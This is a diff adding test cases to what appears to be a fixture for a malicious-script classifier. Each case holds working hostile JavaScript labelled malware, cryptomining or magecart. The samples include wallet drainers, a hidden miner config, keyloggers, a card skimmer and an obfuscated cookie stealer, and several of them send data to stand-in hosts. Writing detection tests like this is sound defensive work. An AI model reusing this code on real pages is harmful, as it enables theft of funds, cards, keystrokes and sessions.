@@ -256,4 +256,39 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     source: `window.config=JSON.parse(atob('${base64('{"api":"/api"}')}'))`,
     head: null,
   },
+  {
+    name: 'a token approved for an account of the script, by a transaction written as bytes',
+    source: `const TO='0x52908400098527886E0F7030069857D2E4169EE7',T='0xdAC17F958D2ee523a2206206994597C13D831ec7';async function go(){const a=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a[0],to:T,data:'0x095ea7b3'+'0'.repeat(24)+TO.slice(2)+'f'.repeat(64)}]})}document.querySelector('#claim').onclick=go`,
+    head: 'malware',
+  },
+  {
+    name: 'all tokens of a wallet, one after another',
+    source: `async function claim(user){const r=await fetch('https://deep-index.moralis.io/api/v2/'+user+'/erc20?chain=eth');for(const t of await r.json()){const c=new web3.eth.Contract(abi,t.token_address);await c.methods.transfer(receiver,t.balance).send({from:user})}}`,
+    head: 'malware',
+  },
+  {
+    name: 'the settings of a miner that another file runs',
+    source: `window.mineOptions={};mineOptions.invisible='true';mineOptions.sitekey='EN0YyYIb5iM8x5R3DH12SSe9uJlTsKkX';mineOptions.throttle='0.3';`,
+    head: 'cryptomining',
+  },
+  {
+    name: 'keys by the event of the window, collected for a timer',
+    source: `var keys='';document.onkeypress=function(e){var get=window.event?event:e;keys+=String.fromCharCode(get.keyCode?get.keyCode:get.charCode)};setInterval(function(){if(keys.length>0){new Image().src='http://198.51.100.7/k.php?c='+keys;keys=''}},1000)`,
+    head: 'malware',
+  },
+  {
+    name: 'keys of which one is replaced by a word',
+    source: `var k=[];document.addEventListener('keydown',function(e){var key=e.key;if(key===' '){key='Space'}k.push(key)});setInterval(function(){fetch('http://log.example.net/',{method:'POST',body:k.join('')})},9000)`,
+    head: 'malware',
+  },
+  {
+    name: 'a card with the address of the page, by a request',
+    source: `document.getElementById('pay').addEventListener('click',function(){var d={};d.first=document.getElementById('billing:firstname').value;d.number=document.getElementById('cc_number').value;d.cvv=document.getElementById('cc_cid').value;var x=new XMLHttpRequest();x.open('POST','//stat.example.net/in',false);x.send('data='+JSON.stringify(d)+location.host)})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a decoder whose key is its own source',
+    source: `(function KEYED(){var k=KEYED.toString().charCodeAt(0);function d(a){return a.map(function(c){return String.fromCharCode(c-k)}).join('')}new Image().src=d([149,149,199,148,203,222,199,211,214,210,203,149,165,201,163])+document.cookie})();`,
+    head: 'malware',
+  },
 ]
